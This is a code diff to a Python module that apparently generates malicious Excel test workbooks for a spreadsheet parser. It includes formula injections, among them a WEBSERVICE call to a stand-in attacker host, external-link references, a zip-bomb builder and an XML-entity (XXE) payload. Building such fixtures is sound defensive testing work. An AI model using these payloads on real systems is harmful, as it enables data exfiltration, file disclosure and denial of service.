@@ -9,6 +9,7 @@ from __future__ import annotations
 import copy
 import io
 import json
+import re
 import sys
 import zipfile
 from collections.abc import Callable
@@ -159,18 +160,37 @@ def _text() -> bytes:
     return "\n".join(lines).encode()
 
 
-def workbook(template: Path | None = None) -> bytes:
-    """The template, or a workbook of our own with a field and its value in each row."""
-    if template is not None:
-        return template.read_bytes()
-    from openpyxl import Workbook
+ANSWERS = {"vendor": "Acme", "unit_price": "2.10 USD", "unit": "gpu_hour", "quantity": "64"}
 
-    book = Workbook()
-    sheet = book.active
-    sheet.title = "Quote"
-    for row in (("field", "value"), ("vendor", "Acme"), ("unit_price", "2.10 USD"), ("unit", "gpu_hour")):
-        sheet.append(row)
+
+def workbook(template: Path | None = None) -> bytes:
+    """The template with a few answers in it, or a workbook of our own with a field and its value in each row."""
+    from openpyxl import Workbook, load_workbook
+
+    if template is None:
+        book = Workbook()
+        for row in (("field", "value"), *((name, "") for name in ANSWERS)):
+            book.active.append(row)
+    else:
+        book = load_workbook(template)
+    for name, cell in _named(book):
+        if name in ANSWERS:
+            cell.value = ANSWERS[name]
     return _saved(book)
+
+
+def _named(book: Any) -> list[tuple[str, Any]]:
+    """Fields and their cells: right of a field's name, or under the title of the column of values."""
+    found = []
+    for sheet in book.worksheets:
+        titles = [str(cell.value).lower() for cell in sheet[1]]
+        values = next((at + 1 for at, one in enumerate(titles) if one in ("value", "valor", "answer")), 0)
+        for row in sheet.iter_rows(min_row=2):
+            for cell in row:
+                if isinstance(cell.value, str) and re.fullmatch(r"[a-z0-9_]+", cell.value):
+                    found.append((cell.value, sheet.cell(cell.row, values or cell.column + 1)))
+                    break
+    return found
 
 
 def _saved(book: Any) -> bytes:
@@ -180,18 +200,13 @@ def _saved(book: Any) -> bytes:
 
 
 def _formulas(base: bytes) -> bytes:
-    """A formula in the cell right of every name of a field that the workbook holds."""
+    """Formulas where answers are asked for."""
     from openpyxl import load_workbook
 
     book = load_workbook(io.BytesIO(base))
     formulas = ("=1+1", CELLS[0], "=[1]Prices!A1", '=WEBSERVICE("http://evil.example/")', "=A1:A9")
-    written = 0
-    for sheet in book.worksheets:
-        for row in sheet.iter_rows():
-            for cell in row:
-                if cell.value in ("vendor", "unit_price", "unit", "quote_id", "quantity", "region"):
-                    sheet.cell(cell.row, cell.column + 1).value = formulas[written % len(formulas)]
-                    written += 1
+    for at, (_, cell) in enumerate([one for one in _named(book) if one[0] in ANSWERS]):
+        cell.value = formulas[at % len(formulas)]
     return _saved(book)
 
 
@@ -209,7 +224,13 @@ def _rezipped(
 
 
 def _sheet(base: bytes, change: Callable[[bytes], bytes]) -> bytes:
-    return _rezipped(base, lambda name, was: change(was) if name == "xl/worksheets/sheet1.xml" else was)
+    """The same workbook with the sheet changed that holds the answers."""
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(base))
+    asked = next(cell.parent for name, cell in _named(book) if name in ANSWERS)
+    part = f"xl/worksheets/sheet{book.worksheets.index(asked) + 1}.xml"
+    return _rezipped(base, lambda name, was: change(was) if name == part else was)
 
 
 def _bomb(base: bytes, mib: int = 96) -> bytes:
@@ -286,7 +307,7 @@ def _entities(base: bytes) -> bytes:
 
     def change(was: bytes) -> bytes:
         at = was.index(b"<worksheet")
-        cell = b'<row r="9"><c r="A9" t="inlineStr"><is><t>&l9;&file;</t></is></c></row></sheetData>'
+        cell = b'<row r="99999"><c r="A99999" t="inlineStr"><is><t>&l9;&file;</t></is></c></row></sheetData>'
         return was[:at] + head + was[at:].replace(b"</sheetData>", cell, 1)
 
     return _sheet(base, change)
